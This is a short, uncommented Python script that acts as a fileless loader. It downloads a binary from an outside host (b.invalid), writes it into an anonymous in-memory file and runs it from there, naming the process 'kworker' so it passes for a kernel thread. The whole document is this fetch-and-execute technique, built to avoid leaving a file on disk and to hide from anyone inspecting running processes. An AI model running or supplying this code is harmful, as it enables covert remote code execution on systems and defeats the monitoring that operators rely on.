import os
import urllib.request

blob = urllib.request.urlopen("https://b.invalid/elf").read()
fd = os.memfd_create("", 0)
os.write(fd, blob)
os.execv(f"/proc/self/fd/{fd}", ["kworker"])
